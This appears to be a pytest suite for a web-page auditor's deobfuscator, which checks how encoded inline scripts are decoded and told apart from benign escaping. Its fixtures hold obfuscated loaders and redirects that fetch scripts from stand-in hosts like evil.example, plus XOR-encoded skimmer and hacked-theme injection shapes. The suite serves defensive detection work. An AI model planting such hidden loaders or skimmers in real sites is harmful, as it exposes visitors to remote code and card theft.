"""Static decoding of obfuscated inline scripts: what each encoding hides, and what is
not obfuscation at all."""

from __future__ import annotations

import base64
import hashlib
import re
import time
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from auditor.dom import deobfuscate
from auditor.dom.deobfuscate import MAX_DECODED, decode_script, unpack
from auditor.heuristics.interface import fingerprint
from auditor.model import RequestType

from .conftest import AuditHtml

LOADER = ("var s=document.createElement('script');s.src='https://evil.example/x.js';"
          "document.body.appendChild(s);")


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def codes(text: str) -> str:
    return ",".join(str(ord(c)) for c in text)


def hexed(text: str) -> str:
    return "".join(f"\\x{ord(c):02x}" for c in text)


def packed(text: str) -> str:
    """A minimal P.A.C.K.E.R. wrapper whose word table is the identity (base 10)."""
    words = sorted(set(__import__("re").findall(r"\b\w+\b", text)))
    index = {w: str(i) for i, w in enumerate(words)}
    body = __import__("re").sub(r"\b\w+\b", lambda m: index[m.group(0)], text)
    body = body.replace("'", "\\'")
    return (f"eval(function(p,a,c,k,e,d){{}}('{body}',10,{len(words)},"
            f"'{'|'.join(words)}'.split('|'),0,{{}}))")


@pytest.mark.parametrize(
    ("code", "url", "kind"),
    [
        (f"eval(atob('{b64(LOADER)}'))", "https://evil.example/x.js", RequestType.SCRIPT),
        (f"var p='{b64(LOADER)}';eval(atob(p));", "https://evil.example/x.js", RequestType.SCRIPT),
        (f"eval(String.fromCharCode({codes(LOADER)}))", "https://evil.example/x.js",
         RequestType.SCRIPT),
        (f"eval(String.fromCharCode.apply(null,[{codes(LOADER)}]))", "https://evil.example/x.js",
         RequestType.SCRIPT),
        (f"eval('{hexed(LOADER)}')", "https://evil.example/x.js", RequestType.SCRIPT),
        ("document.write(unescape('%3Cscript%20src%3D%22https%3A%2F%2F%65vil.example%2Fy.js"
         "%22%3E%3C%2Fscript%3E'))", "https://evil.example/y.js", RequestType.SCRIPT),
        ("var s=document.createElement('script');"
         "s.src='sj.z/elpmaxe.live//:sptth'.split('').reverse().join('');",
         "https://evil.example/z.js", RequestType.SCRIPT),
        (packed(LOADER), "https://evil.example/x.js", RequestType.SCRIPT),
        (f"var i=document.createElement('iframe');i.src=atob('{b64('https://evil.example/f')}');",
         "https://evil.example/f", RequestType.SUBDOCUMENT),
        (f"window.location.href=atob('{b64('https://spam.example/?r=1')}');",
         "https://spam.example/?r=1", RequestType.DOCUMENT),
        # the names and the URL each an escaped literal, called through brackets
        (f"var s=document['{hexed('createElement')}']('{hexed('script')}');s['{hexed('src')}']="
         f"'{hexed('https://evil.example/w.js')}';document['{hexed('head')}']"
         f"['{hexed('appendChild')}'](s);", "https://evil.example/w.js", RequestType.SCRIPT),
        # the address's char codes held in a name the location is then set to (a redirect
        # kit's form: `var l=String.fromCharCode(…);window.location.replace(l)`), or a src
        (f"window.stop();var l=String.fromCharCode({codes('https://spam.example/go.php?s=4')});"
         "window.location.replace(l);document.location.href=l;",
         "https://spam.example/go.php?s=4", RequestType.DOCUMENT),
        (f"var u=String.fromCharCode({codes('https://evil.example/n.js')});var s=document."
         "createElement('script');s.src=u;document.head.appendChild(s);",
         "https://evil.example/n.js", RequestType.SCRIPT),
        # a hidden address handed to what fetches and runs a script: jQuery's getScript,
        # a dynamic import, fetch whose answer is evaluated
        (f"jQuery.getScript(atob('{b64('https://evil.example/g.js')}'));",
         "https://evil.example/g.js", RequestType.SCRIPT),
        (f"import(atob('{b64('https://evil.example/m.js')}'));",
         "https://evil.example/m.js", RequestType.SCRIPT),
        (f"fetch(atob('{b64('https://evil.example/f.js')}')).then(r=>r.text()).then(eval);",
         "https://evil.example/f.js", RequestType.SCRIPT),
        # two layers: base64 inside char codes
        (f"eval(String.fromCharCode({codes(f'eval(atob({chr(39)}{b64(LOADER)}{chr(39)}))')}))",
         "https://evil.example/x.js", RequestType.SCRIPT),
    ],
)
def test_decoded_urls(code: str, url: str, kind: RequestType) -> None:
    decoded = decode_script(code)
    assert decoded.obfuscated
    hidden = {u.url: u for u in decoded.urls}
    assert url in hidden, decoded
    assert hidden[url].loaded and hidden[url].type is kind


@pytest.mark.parametrize(
    "code",
    [
        # WordPress' emoji loader: String.fromCharCode on surrogate pairs, no sink
        "!function(e,a,t){var n=String.fromCharCode;p.fillText(n.apply(this,[55356,56826]),0,0)}"
        "(window,document,window._wpemojiSettings);",
        "var g = Function('return this')();",  # core-js's globalThis polyfill
        "var cfg = JSON.parse(atob(window.__CONFIG__ || 'e30='));",  # base64 config, no URL
        "(function(i,s,o,g,r,a,m){i['GoogleAnalyticsObject']=r;i[r]=i[r]||function(){"
        "(i[r].q=i[r].q||[]).push(arguments)},i[r].l=1*new Date();a=s.createElement(o),"
        "m=s.getElementsByTagName(o)[0];a.async=1;a.src=g;m.parentNode.insertBefore(a,m)"
        "})(window,document,'script','https://www.google-analytics.com/analytics.js','ga');",
        "document.write('<p>' + new Date().getFullYear() + '</p>');",
        "var token = 'dGhpcyBpcyBub3QgYSB1cmwgYXQgYWxsIGJ1dCBhIGxvbmcgdG9rZW4=';",
        # a bundle's CRC-32 (XOR of char codes) far from its dev loader's eval of a module's
        # source, beside an inlined font: no XOR decoder runs what it decodes
        "function crc(s){var c=-1;for(var i=0;i<s.length;i++){c=(c>>>8)^T[(s.charCodeAt(i)^c)&255];"
        "}return ~c;}" + "var cfg={a:1,b:2,c:3};" * 60 + "var font='" + "QUJD" * 80 + "';"
        "function load(src){return eval(src);}",
        # a bot check's configuration XOR-decoded with the key it holds and evaluated: data
        "(function(){var k='pX7fQ2',c='"
        "\\x0b\\x7a\\x56\\x16\\x21\\x7b\\x14\\x7a\\x0d\\x44\\x01\\x6a\\x11\\x69\\x55\\x54\\x32\\x01\\x14\\x6c\\x15\\x4a\\x73\\x57\\x1e\\x3c\\x47\\x09\\x38\\x5c\\x04\\x7a\\x0d\\x44\\x7e\\x53\\x41\\x3a\\x05\\x05"
        "\\x62\\x56\\x44\\x77\\x4f\\x0e\\x23\\x1d\\x11\\x28\\x5e\\x49\\x27\\x00\\x5f\\x3b\\x58\\x0a\\x3d\\x57\\x13\\x2c\\x58\\x14\\x73\\x1e\\x52\\x2b\\x52\\x08\\x22\\x5d\\x02\\x0e\\x52\\x14\\x22\\x5b\\x1f\\x36"
        "\\x15\\x5c\\x73\\x0a\\x5e\\x6c\\x19\\x57\\x73\\x1e\\x52\\x2a\\x52\\x12\\x23\\x5b\\x15\\x2b\\x15\\x5c\\x62\\x1e\\x52\\x2c\\x5e\\x0b\\x34\\x5d\\x05\\x2c\\x44\\x44\\x6b\\x69\\x45\\x68\\x07\\x4a\\x60\\x07"
        "\\x40\\x68\\x1b\\x52\\x64\\x02\\x40\\x05\\x4a"
        "',o='';for(var i=0;i<c.length;i++)o+=String.fromCharCode(c.charCodeAt(i)^k.charCodeAt("
        "i%k.length));var s=o;window._pxConf=eval('('+s+')');eval(s);})();",
        # a string hash by XOR beside an eval of a template: no hidden literal to run
        "function h(s){var x=0;for(var i=0;i<s.length;i++){x=(x<<5)^s.charCodeAt(i);}"
        "return x;}var tpl=cfg.tpl;eval(tpl);",
        # a bundle's hash by XOR beside a timer handed a callback, by function or arrow,
        # and an inlined font: the timer runs functions, no string
        "function h(s){var x=0;for(var i=0;i<s.length;i++){x=(x<<5)^s.charCodeAt(i);}"
        "return x;}function tick(){render(h(location.hash));}var font='" + "QUJD" * 80 + "';"
        "setTimeout(tick,50);var poll=()=>fetch('/api/live');setInterval(poll,3e4);",
    ],
)
def test_not_obfuscation(code: str) -> None:
    assert not decode_script(code).obfuscated


@pytest.mark.parametrize(
    ("code", "url"),
    [
        # Omniture/Piwik/trust-seal snippets: only the punctuation is percent-encoded
        ("document.write(unescape('%3Cscript src=%22https://stats.example/piwik.js%22 "
         "type=%22text/javascript%22%3E%3C/script%3E'));", "https://stats.example/piwik.js"),
        # Blogger's navbar: its JS serializer escapes '=' and '&'
        ("gapi.load('gapi.iframes', function(){ gapi.iframes.getContext().openChild({'url': "
         "'https://www.blogger.com/navbar.g?targetBlogID\\x3d394155\\x26blogName\\x3dPython"
         "\\x26publishMode\\x3dPUBLISH_MODE_BLOGSPOT\\x26navbarType\\x3dBLUE\\x26layout\\x3dx"
         "\\x26v\\x3d2', "
         "'where': document.getElementById('navbar-iframe-container')});});",
         "https://www.blogger.com/navbar.g?targetBlogID=394155&blogName=Python"
         "&publishMode=PUBLISH_MODE_BLOGSPOT&navbarType=BLUE&layout=x&v=2"),
        # server-rendered JSON with \u002F for '/'
        ('window.__APP_STATE = {"nav": ["https:\\u002F\\u002Fwww.vice.com\\u002Fen\\u002Fsection'
         '\\u002Ftech", "https:\\u002F\\u002Fshop.vice.com\\u002F", "\\u002Fen\\u002Ftopic'
         '\\u002Fx"]};', "https://shop.vice.com/"),
    ],
)
def test_escaping_that_hides_nothing(code: str, url: str) -> None:
    """Escaping of punctuation is decoded (the URL is known) but is not obfuscation."""
    decoded = decode_script(code)
    assert url in {u.url for u in decoded.urls}
    assert not decoded.obfuscated, decoded.signals


def test_email_hidden_by_char_codes_is_not_obfuscation() -> None:
    """Anti-spam e-mail links written with String.fromCharCode load nothing, run nothing."""
    link = '<a href="mailto:editor@site.example">editor@site.example</a>'
    decoded = decode_script(f"document.write(String.fromCharCode({codes(link)}));")
    assert link in decoded.payloads
    assert not decoded.obfuscated


def test_shift_cipher_strings_are_machine_obfuscation() -> None:
    """An ad-reinsertion script's Caesar-shifted strings: decoded, and called obfuscated."""
    def shifted(text: str, by: int) -> str:
        return "".join(chr(ord(c) + by) for c in text)

    calls = ";".join(f'q(xe("{shifted(s, 3)}",-3))' for s in (
        "//cdn1.news.example/images/a.jpg", "//cdn1.news.example/img/b.png", "shadowRoot"))
    decoded = decode_script(f"function xe(t,n){{return t}};{calls};")
    assert decoded.machine and decoded.obfuscated
    assert "//cdn1.news.example/images/a.jpg" in decoded.payloads


def test_code_decoded_by_xor_and_run_is_machine_obfuscation() -> None:
    """A checkout skimmer's shape: a long escaped literal reversed, XORed with the page's
    host name and run by `new Function`; the key is the site's, so the decoder cannot read
    what runs, and says so."""
    key = "shop.example"
    hidden = "".join(chr(ord(c) ^ ord(key[i % len(key)])) for i, c in enumerate(
        "document.querySelector('#cc').addEventListener('change',function(){});"))[::-1]
    code = ("!function(z,t){!(function(z){var n=(function(z,t){return z.split('').map("
            "function(z,n){return String.fromCharCode(z.charCodeAt(0)^t.charCodeAt(n%t.length))"
            "}).join('');})(z.split('').reverse().join(''),t);try{new Function(n)();}catch(e){}"
            f"}})(z)}}('{hexed(hidden)}',window.location.hostname);")
    decoded = decode_script(code)
    assert decoded.machine and "XOR" in " ".join(decoded.signals)


@pytest.mark.parametrize(("xor", "run"), [
    ("t.charCodeAt(n%t.length)^z.charCodeAt(0)", "window['eval'](n);"),
    ("z.charCodeAt(0)^t.charCodeAt(n%t.length)", "(0,eval)(n);"),
    ("z.charCodeAt(0)^t.charCodeAt(n%t.length)", "window[\"eval\"] (n);"),
    ("z.charCodeAt(0)^t.charCodeAt(n%t.length)", "new Function('',n)();"),
    ("0x5a^z.charCodeAt(0)", "new Function(n)();"),
    # a timer handed the decoded string runs it as code, as `Function.call`/`apply` build it
    ("z.charCodeAt(0)^t.charCodeAt(n%t.length)", "setTimeout(n,10);"),
    ("z.charCodeAt(0)^t.charCodeAt(n%t.length)", "window['setInterval'](n);"),
    ("z.charCodeAt(0)^t.charCodeAt(n%t.length)", "Function.call(null,n)();"),
    ("z.charCodeAt(0)^t.charCodeAt(n%t.length)", "Function.apply(window,[n])();"),
])
def test_xor_decoding_run_by_another_spelling_is_machine_obfuscation(xor: str, run: str) -> None:
    """The skimmer's XOR run with its operands swapped, or run by an indirect `eval`
    (`window['eval'](n)`, `(0,eval)(n)`), `new Function('', n)`, `Function.call`/`apply` or
    a timer handed the string: the same shape."""
    key = "shop.example"
    hidden = "".join(chr(ord(c) ^ ord(key[i % len(key)])) for i, c in enumerate(
        "document.querySelector('#cc').addEventListener('change',function(){});"))[::-1]
    code = ("!function(z,t){!(function(z){var n=(function(z,t){return z.split('').map("
            f"function(z,n){{return String.fromCharCode({xor})}}).join('');}})(z.split('')"
            f".reverse().join(''),t);try{{{run}}}catch(e){{}}}})(z)}}('{hexed(hidden)}',"
            "window.location.hostname);")
    decoded = decode_script(code)
    assert decoded.machine and "XOR" in " ".join(decoded.signals), decoded.signals


def test_code_decoded_by_xor_with_a_key_the_script_holds_is_read() -> None:
    """The skimmer's shape with its key a literal of the script (not the page's host):
    the decoder reads what runs, so the address it loads is found as loaded."""
    key = "k3yZ"
    hidden = "".join(chr(ord(c) ^ ord(key[i % len(key)])) for i, c in enumerate(
        "var s=document.createElement('script');s.src='https://cdn.checkout-metrics.test/c.js';"
        "document.head.appendChild(s);"))[::-1]
    code = ("!function(z,t){!(function(z){var n=(function(z,t){return z.split('').map("
            "function(z,n){return String.fromCharCode(z.charCodeAt(0)^t.charCodeAt(n%t.length))"
            "}).join('');})(z.split('').reverse().join(''),t);try{new Function(n)();}catch(e){}"
            f"}})(z)}}('{hexed(hidden)}','{key}');")
    decoded = decode_script(code)
    assert decoded.machine
    assert [(u.url, u.loaded) for u in decoded.urls] == [
        ("https://cdn.checkout-metrics.test/c.js", True)], decoded.urls


def _xor_escaped(markup: str, key: int) -> str:
    """`markup` as the hacked-theme injection writes it: percent-escaped whole, then each
    character XORed with a one-byte key (`'` is `%` XORed with 2)."""
    escaped = "".join(f"%{ord(c):02X}" for c in markup)
    return "".join(chr(ord(c) ^ key) for c in escaped)


XOR_WRITTEN = ('<script type="text/javascript" src="https://cdn.theme-assets.test/'
               'jquery.min.php?ref=home"></script>')


@pytest.mark.parametrize("decoder", [
    "String.fromCharCode(a.charCodeAt(i)^{key})",
    "String.fromCharCode({key} ^ a.charCodeAt(i))",
    "String.fromCharCode((a.charCodeAt(i)) ^ {key})",
])
def test_markup_xored_with_a_constant_and_written_is_read(decoder: str) -> None:
    """A hacked theme's injection: a string XORed with a constant, unescaped and written
    (`b+=String.fromCharCode(a.charCodeAt(i)^2)}c=unescape(b);document.write(c)`). The key
    is the code's number, so the decoder reads what is written and the script it loads."""
    for key in (2, 5):
        code = (f'var a="{_xor_escaped(XOR_WRITTEN, key)}";b="";c="";var clen;clen=a.length;'
                f"for(i=0;i<clen;i++){{b+={decoder.format(key=key)}}}c=unescape(b);"
                "document.write(c);")
        decoded = decode_script(code)
        assert XOR_WRITTEN in decoded.payloads
        assert [(u.url, u.loaded) for u in decoded.urls] == [
            ("https://cdn.theme-assets.test/jquery.min.php?ref=home", True)], decoded.urls


@pytest.mark.parametrize("code", [
    # a string hash over a long literal: the constant XORs a sum, and no key reads the
    # literal as markup or code
    "var s='" + "Zm9vYmFyYmF6cXV4" * 20 + "',h=5381;for(var i=0;i<s.length;i++)"
    "{h=(h*33)^s.charCodeAt(i);}h=h^255;",
    # a constant-XOR decoder whose literal reads as prose, not markup or code
    'var a="' + "".join(chr(ord(c) ^ 2) for c in "thanks for reading our newsletter " * 8)
    + '",b="";for(i=0;i<a.length;i++){b+=String.fromCharCode(a.charCodeAt(i)^2)}alert(b);',
])
def test_constant_xor_that_hides_no_markup_or_code_is_not_read(code: str) -> None:
    assert deobfuscate._xor_constant(code) is None


def _font_beside_a_checksum() -> str:
    """A bundled icon font (base64 of 384 bytes) and, in the same script, a checksum that
    XORs another string's characters with 9: the font XORed with 9 holds `=>`."""
    raw = b"".join(hashlib.sha256(f"font-428-{i}".encode()).digest() for i in range(12))
    font = base64.b64encode(raw).decode()
    return (f'var FONT="data:font/woff2;base64,{font}";function sum(s){{var h="";'
            "for(var i=0;i<s.length;i++){h+=String.fromCharCode(s.charCodeAt(i)^9)}return h}"
            'document.fonts.add(new FontFace("Icons","url("+FONT+")"));')


def test_constant_xor_reads_only_the_literal_it_decodes() -> None:
    """The key XORs `s`'s characters, not the font's: a literal the decoder is not handed
    is no payload (the script's longest literal, a bundled font, read as code gave an
    obfuscated-script finding)."""
    assert deobfuscate._xor_constant(_font_beside_a_checksum()) is None
    assert not decode_script(_font_beside_a_checksum()).signals


def _js_quoted(text: str, quote: str) -> str:
    return "".join(f"\\x{ord(c):02x}" if c in (quote, "\\") else c for c in text)


@pytest.mark.parametrize("literal", [
    # in single quotes, its `'` (`%` XORed with 2) escaped
    lambda e: "'" + _js_quoted(e, "'") + "'",
    lambda e: "'" + e.replace("'", "\\'") + "'",
    # cut in pieces joined with `+`
    lambda e: '"' + e[:60] + '"+"' + e[60:150] + '" + "' + e[150:] + '"',
])
def test_constant_xor_literal_escaped_or_in_pieces_is_read(literal: Callable[[str], str]) -> None:
    code = (f"var a={literal(_xor_escaped(XOR_WRITTEN, 2))};b=\"\";for(i=0;i<a.length;i++)"
            "{b+=String.fromCharCode(a.charCodeAt(i)^2)}document.write(unescape(b));")
    assert XOR_WRITTEN in decode_script(code).payloads


def test_constant_xor_key_held_in_a_variable_is_read() -> None:
    code = (f'var k=0x7f,a="{_xor_escaped(XOR_WRITTEN, 0x7f)}",b="";'
            "for(i=0;i<a.length;i++){b+=String.fromCharCode(a.charCodeAt(i)^k)}"
            "document.write(unescape(b));")
    assert XOR_WRITTEN in decode_script(code).payloads


def test_constant_xor_of_a_short_loader_is_read() -> None:
    """A loader tag of 35 characters, percent-escaped: 105, under the 200 read before."""
    tag = "<script src=//x.test/a.js></script>"
    code = (f'var a="{_xor_escaped(tag, 2)}",b="";for(i=0;i<a.length;i++)'
            "{b+=String.fromCharCode(a.charCodeAt(i)^2)}document.write(unescape(b));")
    assert tag in decode_script(code).payloads


# the XOR written as its own statement: the character code taken into a name, then that
# name XORed (`c ^= 2`, `c = c ^ 2`, `c = 2 ^ c`), the key written or held in a name
@pytest.mark.parametrize("step", [
    "c=a.charCodeAt(i);c^={key};b+=String.fromCharCode(c)",
    "var c = a.charCodeAt(i);\n c ^= {key};\n b += String.fromCharCode(c);",
    "x=a.charCodeAt(i);x=x^{key};b+=String.fromCharCode(x)",
    "x=a.charCodeAt(i);x = {key} ^ x;b+=String.fromCharCode(x)",
    "x=a.charCodeAt(i);x^=k;b+=String.fromCharCode(x)",
    # the held character code XORed where it is used, or into another name
    "c=a.charCodeAt(i);b+=String.fromCharCode(c^{key})",
    "var c = a.charCodeAt(i); b += String.fromCharCode(c ^ k);",
    "x=a.charCodeAt(i);y=x^{key};b+=String.fromCharCode(y)",
])
def test_constant_xor_written_as_its_own_statement_is_read(step: str) -> None:
    for key in (2, 5):
        code = (f'var k={key},a="{_xor_escaped(XOR_WRITTEN, key)}",b="";'
                f"for(i=0;i<a.length;i++){{{step.format(key=key)}}}"
                "document.write(unescape(b));")
        assert XOR_WRITTEN in decode_script(code).payloads, (step, key)


# the literal handed to a decoder function as its argument, the key written in the
# function or handed beside the literal
@pytest.mark.parametrize("decoder", [
    'function d(s){{var o="";for(var i=0;i<s.length;i++)'
    "o+=String.fromCharCode(s.charCodeAt(i)^{key});return o}}"
    "document.write(unescape(d({literal})));",
    "var d=function(s){{var o='';for(var i=0;i<s.length;i++){{var c=s.charCodeAt(i);"
    "c^={key};o+=String.fromCharCode(c)}}return o}};document.write(unescape(d({literal})));",
    "function d(s,k){{var o='';for(var i=0;i<s.length;i++)"
    "o+=String.fromCharCode(k^s.charCodeAt(i));return o}}"
    "document.write(unescape(d({literal},{key})));",
    "const d = (t, n) => {{let o = ''; for (let i = 0; i < t.length; i++) "
    "o += String.fromCharCode(t.charCodeAt(i) ^ n); return o;}};\n"
    "document.write(unescape(d(\n  {literal}, 0x{key:02x})));",
])
def test_constant_xor_of_a_literal_handed_to_a_decoder_is_read(decoder: str) -> None:
    for key in (3, 6):
        literal = '"' + _js_quoted(_xor_escaped(XOR_WRITTEN, key), '"') + '"'
        code = decoder.format(key=key, literal=literal)
        assert XOR_WRITTEN in decode_script(code).payloads, (decoder, key)


@pytest.mark.parametrize("code", [
    # a hash's XOR statement over a code that is not the literal's character: the markup
    # check never sees markup
    "function h(s){var x=5381,c;for(var i=0;i<s.length;i++){c=s.charCodeAt(i);x=x^c;"
    "x^=7;}return x}h('" + "Zm9vYmFyYmF6cXV4" * 8 + "');",
    # a decoder handed prose, and one handed a name (no literal to read)
    "function d(s){var o='';for(var i=0;i<s.length;i++){var c=s.charCodeAt(i);c^=2;"
    "o+=String.fromCharCode(c)}return o}alert(d('"
    + "".join(chr(ord(c) ^ 2) for c in "thanks for reading our newsletter " * 4) + "'));",
    "function d(s){var o='';for(var i=0;i<s.length;i++)o+=String.fromCharCode("
    "s.charCodeAt(i)^2);return o}document.write(unescape(d(location.hash)));",
    # a name XORed that holds no character code (a length)
    f'var a="{_xor_escaped(XOR_WRITTEN, 2)}",b="",c;c=a.length;c^=2;'
    "for(i=0;i<a.length;i++){b+=a.charAt(i)}document.write(b);",
])
def test_constant_xor_statement_or_decoder_that_hides_nothing_is_not_read(code: str) -> None:
    assert deobfuscate._xor_constant(code) is None


def test_constant_xor_statement_after_many_other_xors_is_read() -> None:
    """An injection appended to a script that XORs numbers (a hash, a PRNG) many times
    before it: those XORs near no character code do not use up the sites read."""
    code = ("".join(f"h{i}=h{i}^s{i};" for i in range(80))
            + f'var a="{_xor_escaped(XOR_WRITTEN, 5)}",b="";for(i=0;i<a.length;i++)'
            "{c=a.charCodeAt(i);c^=5;b+=String.fromCharCode(c)}document.write(unescape(b));")
    assert XOR_WRITTEN in decode_script(code).payloads


def test_constant_xor_statements_are_read_in_linear_time() -> None:
    """Many XOR statements and decoder functions, none of them handed a literal."""
    from tests.hostile.scaling import assert_linear

    def seconds(n: int) -> float:
        code = ("function d(s){var c=s.charCodeAt(0);c^=2;return c}x=d(y);" * (n // 60)
                + "c=q.charCodeAt(1);c=c^3;" * (n // 24))
        start = time.perf_counter()
        deobfuscate._xor_constant(code)
        return time.perf_counter() - start

    assert_linear(seconds, 1_250_000, "constant XOR statements")


def test_unpack_round_trip() -> None:
    assert unpack(packed(LOADER)) == LOADER


def test_decoding_is_bounded() -> None:
    big = "A" * (MAX_DECODED * 2)
    code = f"eval(atob('{b64(big)}'))"
    decoded = decode_script(code)
    assert sum(len(p) for p in decoded.payloads) <= MAX_DECODED


LOADER = ("var s=document.createElement('script');s.src='https://a.magsrv.com/x.js';"
          "document.head.appendChild(s)")


def test_a_large_escaped_text_is_no_obfuscation(audit_html: AuditHtml) -> None:
    """A json_encode'd translation table (`\\u00fc` escapes, 478 KB) spends the decoder's
    budget on text that hides no letter: nothing was concealed, nothing is flagged."""
    table = ",".join(f'"k{i}": "{i} Gr\\u00fc\\u00dfe aus M\\u00fcnchen, {"lorem ipsum " * 8}"'
                     for i in range(3000))
    report = audit_html(f"<html><body><p>Text.</p><script>var l10n = {{{table}}};</script>"
                        "</body></html>", url="https://news.example/a")
    assert report.findings == ()


def test_what_the_decoder_cannot_read_to_its_end_is_obfuscation(audit_html: AuditHtml
                                                                 ) -> None:
    """Three ways past the decoder's bounds, which passed a gate on `medium` findings:
    a loader nested four encodings deep (no site's own code does that: high), one run
    after 600 KB of padding, and one behind a spent budget (medium: not readable is not
    harmless)."""
    nested = LOADER
    for _ in range(deobfuscate.MAX_DEPTH + 1):
        nested = f"eval(atob('{b64(nested)}'))"
    padded = "var a=1;" * 80_000 + f"eval(atob('{b64(LOADER)}'))"
    decoys = "".join(f"var d{c}=atob('{b64(c * 48_000)}');" for c in "ABCDEFG")
    spent = decoys + f"eval(atob('{b64(LOADER)}'))"
    for code, severity in ((nested, "high"), (padded, "medium"), (spent, "medium")):
        report = audit_html(f"<html><body><p>Text.</p><script>{code}</script></body></html>",
                            url="https://news.example/a")
        assert [(f.kind, f.severity.value) for f in report.findings] == [
            ("obfuscated-script", severity)], code[:40]


@given(st.integers(min_value=0, max_value=500))
def test_fingerprint_ignores_line_shifts(shift: int) -> None:
    """A finding's id hashes its kind and evidence, never where it sits."""
    assert fingerprint("obfuscated-script", "https://evil.example/x.js") == fingerprint(
        "obfuscated-script", "https://evil.example/x.js")
    code = "\n" * shift + f"eval(atob('{b64(LOADER)}'))"
    assert decode_script(code).urls == decode_script(f"eval(atob('{b64(LOADER)}'))").urls


def test_api_names_handed_to_a_decoder_in_base64_are_obfuscation() -> None:
    """An ad-block recovery script hides the APIs it calls: `q("c2V0VGltZW91dA==")`."""
    names = ["setTimeout", "getComputedStyle", "DOMContentLoaded", "addEventListener",
             "requestAnimationFrame", "ReferenceError"]
    calls = ";".join(f'x=q("{b64(n)}")' for n in names)
    calls += ";" + ";".join(f'y=q("{b64(f"k{i:04d}-opaque")}")' for i in range(6))
    decoded = decode_script(f"function q(s){{return atob(s)}};{calls};")
    assert decoded.obfuscated and decoded.machine
    assert any(s.startswith("API names hidden in base64") for s in decoded.signals)
    # the same decoder handed ids and data, not API names: nothing hidden
    data = ";".join(f'y=q("{b64(f"item-{i:04d}-name")}")' for i in range(20))
    assert not decode_script(f"function q(s){{return atob(s)}};{data};").machine


# The patterns the scanners were written from: a scanner finds what its pattern finds.
_CIPHER_CALL = re.compile(r"""(['"])([^'"\s\\]{6,400})\1\s*,\s*(-?\d{1,2})\s*\)""")
_ESCAPED_LITERAL = re.compile(
    r"""(['"])((?:\\x[0-9a-fA-F]{2}|\\u[0-9a-fA-F]{4}|[^'"\\\n]){4,65536}?)\1""")
_PIECES = ["'", '"', " ", ",", "-", "3", "12", ")", "(", "\\", "\n", "abcdef", "x", "ab",
           "\\x41", "\\u00e9", "\\u00", "atob(", "xatob(", "unescape(", "%41"]
_SCRIPTS = st.lists(st.sampled_from(_PIECES), max_size=40).map("".join)


@given(_SCRIPTS)
def test_cipher_calls_are_the_call_pattern(code: str) -> None:
    expected = [(m.group(2), int(m.group(3))) for m in _CIPHER_CALL.finditer(code)]
    assert list(deobfuscate._cipher_calls(code)) == expected


@given(_SCRIPTS)
def test_escaped_literals_are_the_literal_pattern(code: str) -> None:
    """The scanner finds the literals with an escape among those the pattern finds."""
    expected = [(m.start(), m.group(2)) for m in _ESCAPED_LITERAL.finditer(code)
                if "\\" in m.group(2)]
    assert list(deobfuscate._escaped_literals(code)) == expected


def test_an_escaped_literal_is_bounded() -> None:
    """A literal over MAX_ESCAPED_UNITS is no literal: the scan goes on inside it."""
    long = "'" + "\\x41" * (deobfuscate.MAX_ESCAPED_UNITS + 1) + "'zz\\x42zz'"
    payloads = [text for text, _ in deobfuscate._decodings(long)]
    assert payloads == ["zzBzz"]


# --- a theme's bundle holding a packed jQuery plugin ------------------------------------
# Old jQuery plugins (easing tables, sliders, lightboxes) shipped packed with Dean Edwards'
# P.A.C.K.E.R. for size, and WordPress themes still concatenate them into their
# `main.min.js`, which optimisers (Autoptimize, WP Rocket) inline into the page. Ours is a
# bundle written in that shape: Bootstrap's UMD header and sanitizer tables, the theme's own
# code, and a plugin packed by the packer's base-62 form (its `e=function(c){…}` decoder).

def packed62(text: str) -> str:
    """P.A.C.K.E.R.'s base-62 output: words by frequency, its own decoder in the wrapper."""
    digits = "0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
    words = sorted(set(re.findall(r"\b\w+\b", text)),
                   key=lambda w: -len(re.findall(rf"\b{w}\b", text)))

    def base62(n: int) -> str:
        return digits[n] if n < 62 else base62(n // 62) + digits[n % 62]

    index = {w: base62(i) for i, w in enumerate(words)}
    body = re.sub(r"\b\w+\b", lambda m: index[m.group(0)], text).replace("'", "\\'")
    return ("eval(function(p,a,c,k,e,d){e=function(c){return(c<a?'':e(parseInt(c/a)))+"
            "((c=c%a)>35?String.fromCharCode(c+29):c.toString(36))};if(!''.replace(/^/,String))"
            "{while(c--){d[e(c)]=k[c]||e(c)}k=[function(e){return d[e]}];e=function(){return"
            "'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),"
            f"k[c])}}}}return p}}('{body}',62,{len(words)},'{'|'.join(words)}'.split('|'),0,{{}}))")


EASING = ("jQuery.easing['jswing']=jQuery.easing['swing'];jQuery.extend(jQuery.easing,{def:"
          "'easeOutQuad',swing:function(x,t,b,c,d){return jQuery.easing[jQuery.easing.def]"
          "(x,t,b,c,d)},easeInQuad:function(x,t,b,c,d){return c*(t/=d)*t+b},easeOutQuad:"
          "function(x,t,b,c,d){return -c*(t/=d)*(t-2)+b},easeInOutCubic:function(x,t,b,c,d)"
          "{if((t/=d/2)<1)return c/2*t*t*t+b;return c/2*((t-=2)*t*t+2)+b}});")
SLIDER = ("(function($){$.fn.hlSlider=function(o){var s=$.extend({speed:400,pause:5000},o);"
          "return this.each(function(){var el=$(this),i=0,n=el.children().length;"
          "setInterval(function(){i=(i+1)%n;el.children().fadeOut(s.speed).eq(i)"
          ".fadeIn(s.speed)},s.pause)})}})(jQuery);")
THEME = (
    '/*! Harbourline v2.4.1 | Bootstrap v5.3 (MIT) */!function(t,e){"object"==typeof exports'
    '&&"undefined"!=typeof module?module.exports=e():"function"==typeof define&&define.amd?'
    'define(e):(t="undefined"!=typeof globalThis?globalThis:t||self).bootstrap=e()}(this,'
    'function(){"use strict";const Ke=/^(?:(?:https?|mailto|ftp|tel|file|sms):|[^#&/:?]*'
    '(?:[#/?]|$))/i,Ze={"*":["class","dir","id","lang","role"],a:["target","href","title",'
    '"rel"],img:["src","srcset","alt","title","width","height"]};'
    + "".join(f'class C{i}{{show(){{this._element.classList.add("show");this._element.'
              f'setAttribute("aria-expanded",!0)}}}}' for i in range(300))
    + 'return{Collapse:C1,Modal:C2}});'
    'document.addEventListener("DOMContentLoaded",function(){var c=document.querySelector('
    '".cookie-notice");c&&!document.cookie.match(/hl_cookie=1/)&&(c.hidden=!1)});')


def _escaped(word: str) -> str:
    """`word` as `\\uXXXX` escapes, their backslashes doubled as the packer writes them into
